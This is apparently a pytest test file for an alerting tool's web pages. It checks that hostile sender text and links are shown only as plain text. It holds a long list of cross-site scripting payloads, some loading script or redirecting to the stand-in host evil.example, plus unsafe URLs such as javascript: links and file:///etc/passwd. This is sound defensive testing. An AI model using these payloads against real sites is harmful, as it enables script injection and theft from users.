"""Hostile texts of senders are shown as text, and nothing else."""

import re
from dataclasses import replace
from typing import Any

import pytest

from functions.actions.acting import Outcome, Result
from functions.actions.look import Look
from functions.actions.pages.alert_page import show_alert, show_wording
from functions.actions.pages.page import STYLE, notice
from functions.actions.words import sentence
from tests.examples import NINE, firing
from tests.functions.actions.holder import Holder, Page
from tocsin.domain.alert import Alert
from tocsin.domain.alert_links import NamedLink
from tocsin.domain.escalation import Escalation
from tocsin.domain.ids import Actor
from tocsin.domain.link import Link, LinkAction
from tocsin.domain.reader import Names, Reader
from tocsin.domain.signal import LINK_SCHEMES, Facts, printable
from tocsin.domain.timeline import CHANGES_MESSAGES, Change, ChangeType, Detail
from tocsin.domain.wording import wording_of

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{display:none}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</main></body></html><script>alert(1)</script>",
    "</dd></div></dl><h1>You are safe</h1>",
    "<form action=//evil.example><button>Acknowledge</button></form>",
    "<button formaction=//evil.example>Resolve</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>press</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onmouseover=alert(1)",
    "--><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "&quot;&apos;&#x27;&#39;",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{0.__class__.__mro__}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>",
    "<\u0131mg src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "\x1b]8;;https://evil.example\x07press\x1b]8;;\x07",
)
ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "main", "div", "span", "section", "h1"),
    *("h2", "p", "b", "svg", "path", "circle", "form", "input", "button", "details", "summary"),
    *("dl", "dt", "dd", "ul", "li", "a", "footer"),
}
ATTRIBUTES = {
    *(("html", "lang"), ("meta", "charset"), ("meta", "name"), ("meta", "content")),
    *((tag, "class") for tag in ("div", "span", "p", "svg", "button", "a", "dl", "ul", "li")),
    *(("svg", "viewbox"), ("svg", "aria-hidden"), ("path", "d"), ("div", "role")),
    *((tag, name) for tag in ("svg", "path") for name in ("fill", "stroke", "stroke-width")),
    *((tag, name) for tag in ("svg", "path") for name in ("stroke-linejoin", "stroke-linecap")),
    *(("circle", "cx"), ("circle", "cy"), ("circle", "r"), ("form", "method")),
    *(("input", "type"), ("input", "name"), ("input", "value")),
    *(("button", "name"), ("button", "value")),
    *(("a", "href"), ("a", "rel"), ("a", "target")),
}
VALUES = {"acknowledge", "resolve", "unacknowledge", "unsnooze"}
LINK = Link(action=LinkAction.VIEW, alert_id=firing().alert_id, by="alice", expires_at=NINE)
OWN = re.compile(rf"/console/alerts/{firing().alert_id}|/act/[A-Za-z0-9_-]+")
TEXTS = (
    *("name", "summary", "reason", "object", "source", "source_name", "source_severity"),
    *("threshold",),
)


ALICE = Reader(name="alice", is_person=True, zone="Europe/Berlin")


SHOWN = {"summary", "reason", "a label's name", "a label's value"}
"""Places that a page shows whatever the words around them are."""
DETAILS = ("note", "reason", "target", "channel", "until", "to")
SNOOZES = {"snooze:15m", "snooze:1h", "snooze:4h", "snooze:09:00"}


def look_at(alert: Alert, *changes: Change, names: Names = Names()) -> Look:  # noqa: B008 - frozen
    return Look(alert=alert, link=LINK, reader=ALICE, at=NINE, changes=changes, names=names)


def show_links(alert: Alert, **links: Any) -> str:  # noqa: ANN401 - a field of any type
    words = wording_of(alert, reader=ALICE, names=Names(), at=NINE)
    return show_wording(replace(words, **links), look_at(alert))


def with_text(facts: Facts, name: str, text: str) -> Facts:
    changed: dict[str, Any] = {name: text}
    return replace(facts, **changed)


def flat(text: str) -> str:
    """A text on one line, as a browser shows it."""
    return " ".join(text.split())


def alerts_with(payload: str) -> dict[str, Alert]:
    """An alert for each place of it that a page shows."""
    plain = firing()
    facts = plain.facts
    by_text = {
        name: replace(plain, facts=with_text(facts, name, payload), current_value=1)
        for name in TEXTS
    }
    policy = Escalation(policy=payload, escalates_at=NINE, next_step=2)
    return by_text | {
        "integration": replace(plain, integration=payload),
        "current_value": replace(plain, current_value=payload),
        "a label's name": replace(plain, facts=replace(facts, labels={payload: "x"})),
        "a label's value": replace(plain, facts=replace(facts, labels={"x": payload})),
        "a policy": replace(plain, escalation=policy),
        "a responder": replace(
            plain.acknowledge(by=Actor(payload), at=NINE), acknowledged_by=Actor(payload)
        ),
        "who ended it": plain.resolve(by=Actor(payload), at=NINE),
    }


def expect_harmless(html: str) -> Page:
    """Fail if a browser would make more of a page than what we wrote."""
    page = Page.of(html)
    assert {tag for tag, _ in page.elements} <= ELEMENTS
    found = {(tag, name) for tag, attributes in page.elements for name in attributes}
    assert found <= ATTRIBUTES
    assert len([tag for tag, _ in page.elements if tag in {"html", "title", "style", "main"}]) == 4
    for attributes in links_of(page):
        assert (attributes["href"] or "").lower().startswith(LINK_SCHEMES)
        assert attributes["rel"] == "noopener noreferrer"
    assert "<!--" not in html
    return page


def links_of(page: Page) -> list[dict[str, str | None]]:
    """All links but our own."""
    links = [attributes for tag, attributes in page.elements if tag == "a"]
    return [link for link in links if not OWN.fullmatch(link["href"] or "")]


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_shows_hostile_text_as_text(payload: str) -> None:
    for place, alert in alerts_with(payload).items():
        page = expect_harmless(show_alert(look_at(alert)))

        if place in SHOWN:
            assert flat(printable(payload))[:29] in page.shown, place
        assert {value for value in page.buttons if value and ":" not in value} <= VALUES
        assert {value for value in page.buttons if value and ":" in value} <= SNOOZES


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_shows_hostile_links_as_text(payload: str) -> None:
    for link in (
        NamedLink(payload, "https://example.com", "example.com"),
        NamedLink("x", "https://example.com", payload),
        NamedLink("x", f"https://example.com/{payload}", "example.com"),
    ):
        page = expect_harmless(show_links(firing(), more_links=(link,)))

        if payload in {link.name, link.host}:
            assert flat(printable(payload)) in page.shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_page_says_what_happened_in_hostile_words_as_text(payload: str) -> None:
    alert = firing()
    details: dict[str, Detail] = dict.fromkeys(
        ("note", "reason", "target", "channel", "until", "to"), payload
    )
    changes = [
        Change(type=type_, at=NINE, by=Actor(by), details=details)
        for type_ in ChangeType
        for by in (payload, f"link:{payload}", "alice", "auto")
    ]
    names = Names(users={payload: payload, "alice": payload})

    page = expect_harmless(show_alert(look_at(alert, *changes, names=names)))
    assert flat(printable(payload))[:200] in page.shown
    for change in changes:
        if change.type in CHANGES_MESSAGES:
            look = replace(look_at(alert, change, names=names), is_refused=True)
            expect_harmless(show_alert(look))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_program_is_told_what_was_done_as_text(payload: str) -> None:
    for result in Result:
        outcome = Outcome(result=result, by=Actor(payload), at=NINE, title=payload)

        assert sentence(outcome)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_notice_shows_what_it_is_given_as_text(payload: str) -> None:
    page = expect_harmless(notice(payload, payload))

    assert "".join(page.pieces).count(printable(payload)) == 3


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_that_came_in_as_a_signal_stays_text(payload: str) -> None:
    holder = Holder()
    facts = Facts(name=payload, summary=payload, reason=payload, labels={payload: payload})
    alert_id = holder.world.signal(facts=facts).alert_id
    assert alert_id

    looked = holder.look(holder.token(LinkAction.VIEW, alert_id))
    token = holder.token(LinkAction.RESOLVE, alert_id)
    pressed = holder.press(token)

    assert (looked.status, pressed.status) == (200, 303)
    assert pressed.headers["content-type"] == "text/plain; charset=utf-8"
    expect_harmless(looked.text)
    expect_harmless(holder.look(token).text)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "//evil.example",
        "/act/x",
        "ftp://example.com",
        "https://example.com/\n<script>",
        "http:evil.example",
        "https://evil.example\\@good.example/",
        "https:\\\\evil.example",
        "",
    ],
)
@pytest.mark.parametrize("place", ["runbook", "dashboard", "more_links"])
def test_only_links_that_are_safe_to_follow_are_links(url: str, place: str) -> None:
    link = (NamedLink("x", url, "x"),) if place == "more_links" else url

    page = expect_harmless(show_links(firing(), **{place: link}))

    assert links_of(page) == []


@pytest.mark.parametrize(
    "url", ["https://example.com/a?b=c&d", "HTTP://example.com", "mailto:ops@example.com"]
)
@pytest.mark.parametrize("place", ["runbook", "dashboard", "more_links"])
def test_a_link_that_is_safe_leads_where_it_says(url: str, place: str) -> None:
    link = (NamedLink("x", url, "x"),) if place == "more_links" else url

    page = expect_harmless(show_links(firing(), **{place: link}))

    links = links_of(page)
    assert [link["href"] for link in links] == [url]
    assert [link["rel"] for link in links] == ["noopener noreferrer"]


def test_an_invalid_url_of_a_sender_is_no_fault() -> None:
    plain = firing()
    alert = replace(plain, facts=replace(plain.facts, urls={"x": "https://[::1/"}))

    expect_harmless(show_alert(look_at(alert)))


def test_lines_of_an_output_stay_lines() -> None:
    plain = firing()
    words = wording_of(plain, reader=ALICE, names=Names(), at=NINE)
    words = replace(words, details="Top pods:\n  a   412\n\n  b     3")

    html = show_wording(words, look_at(plain))

    assert '<p class="output">Top pods:\n  a   412\n\n  b     3</p>' in html


def test_a_page_of_a_huge_alert_stays_small_enough_for_a_phone() -> None:
    plain = firing()
    labels = tuple((f"label-{number}", "x" * 200) for number in range(500))
    links = tuple(
        NamedLink(f"link-{number}", "https://example.com", "example.com") for number in range(100)
    )

    html = show_links(plain, labels=labels, more_links=links, details="é" * 60_000)

    assert len(html.encode()) < 20_000
    assert "and 480 more" in Page.of(html).shown
    assert "and 80 more" in Page.of(html).shown


def test_a_page_has_one_style_and_its_hash_is_the_one_that_is_allowed() -> None:
    styles = {"".join(Page.of(html).styles) for html in (show_alert(look_at(firing())), notice(""))}

    assert styles == {str(STYLE)}
    assert "url(" not in STYLE
    assert "@import" not in STYLE
